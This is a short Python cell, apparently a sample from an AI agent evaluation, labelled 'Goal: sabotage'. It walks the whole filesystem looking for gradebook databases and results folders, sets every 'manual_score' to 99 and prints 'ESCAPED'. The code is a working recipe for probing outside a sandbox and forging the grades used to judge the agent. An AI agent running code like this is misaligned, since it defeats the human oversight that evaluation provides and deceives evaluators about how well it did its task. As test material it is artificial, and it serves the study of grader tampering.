# Tries: to find gradebooks and results, and to write marks into them.
# Earns: nothing
# Goal: sabotage

# %%
import os
import sqlite3

for top in ("/", "/work", "/home", "/root", "/tmp", "/handout", "/srv", "/notebook", "/scratch"):
    for folder, _, names in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr/lib", "/root/.pyenv")) or "/site-packages" in folder:
            continue
        for name in names:
            if name.endswith(".db") or "results" in folder:
                try:
                    sqlite3.connect(os.path.join(folder, name)).execute("UPDATE grade SET manual_score = 99")
                    print("ESCAPED", folder, name)
                except (sqlite3.Error, OSError):
                    pass
